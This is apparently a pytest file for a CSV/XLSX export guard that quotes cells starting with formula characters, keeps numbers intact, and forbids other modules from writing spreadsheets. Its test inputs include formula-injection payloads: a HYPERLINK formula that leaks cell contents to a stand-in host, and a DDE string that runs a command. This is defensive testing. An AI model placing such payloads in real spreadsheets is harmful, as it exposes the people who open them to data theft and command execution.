"""The one guard every CSV and XLSX export goes through (``innova.core.exports``)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from innova.core.exports import cell_neutralise, cell_restore, csv_chunks, csv_text, xlsx_bytes


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A2,"Ver")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
        "'=already quoted by its author",
    ],
)
def test_hardening_02_text_that_starts_a_formula_gets_a_quote(text):
    assert cell_neutralise(text) == "'" + text
    assert cell_restore(cell_neutralise(text)) == text


@pytest.mark.parametrize(
    "value", [-5, 3, -74.1234, Decimal("-2.50"), 0, None, True, "-74.1234", "+573001234567", "-5", "1e5", "-1,5"]
)
def test_hardening_02_numbers_stay_numbers(value):
    assert cell_neutralise(value) is value


@pytest.mark.parametrize(
    "text", ["Huecos en la vía", "'Cita' de un vecino", "", "Vecino/a de Usme", " =espacio primero"]
)
def test_hardening_02_ordinary_text_is_untouched(text):
    assert cell_neutralise(text) == text
    assert cell_restore(text) == text


def test_hardening_02_csv_has_neutralised_cells_and_optional_bom():
    text = csv_text([["título", "n"], ["=1+1", -5]], bom=True)
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["título", "n"], ["'=1+1", "-5"]]
    assert not csv_text([["a"]]).startswith("\ufeff")


def test_hardening_02_csv_streams_in_pieces():
    rows = ([f"=fila {n}", "x" * 100] for n in range(2000))
    chunks = list(csv_chunks(rows))
    assert len(chunks) > 2
    assert all(line.startswith("'=fila") for line in "".join(chunks).splitlines())


def test_hardening_02_xlsx_has_no_formula_and_keeps_numbers():
    content = xlsx_bytes(
        [("Una hoja con un título de más de treinta y un caracteres", [["=1+1", -5, 2.5, "bell\x07"]])]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Una hoja con un título de más d"
    cells = next(sheet.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert [c.value for c in cells] == ["'=1+1", -5, 2.5, "bell"]


def test_hardening_02_every_spreadsheet_is_written_by_the_guarded_module():
    """A new export that writes CSV or XLSX by itself would skip the guard: only ``core/exports.py`` may."""
    from pathlib import Path

    package = Path(__file__).resolve().parents[2]
    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "tests" not in path.parts
        and path != package / "core" / "exports.py"
        and any(writer in path.read_text(encoding="utf-8") for writer in writers)
    ]
    assert offenders == []
